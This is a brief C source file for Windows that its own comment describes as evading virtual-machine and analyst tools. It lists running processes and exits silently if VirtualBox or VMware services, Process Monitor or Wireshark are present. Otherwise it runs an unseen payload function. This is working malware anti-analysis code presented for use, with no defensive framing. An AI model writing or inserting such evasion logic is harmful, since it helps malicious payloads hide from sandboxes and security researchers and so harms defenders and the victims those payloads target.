/* Evades the tools of a VM and of analysts, by the names of their processes. */
#include "work.h"
#include <tlhelp32.h>
static const char *const names[] = {"vboxservice.exe", "vmtoolsd.exe", "procmon.exe", "wireshark.exe"};
int main(void)
{
    PROCESSENTRY32 entry = {sizeof entry};
    HANDLE snapshot = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    BOOL more;
    for (more = Process32First(snapshot, &entry); more; more = Process32Next(snapshot, &entry)) {
        unsigned number;
        for (number = 0; number < sizeof names / sizeof *names; number++)
            if (lstrcmpiA(entry.szExeFile, names[number]) == 0)
                return 0;
    }
    CloseHandle(snapshot);
    return work("alone");
}
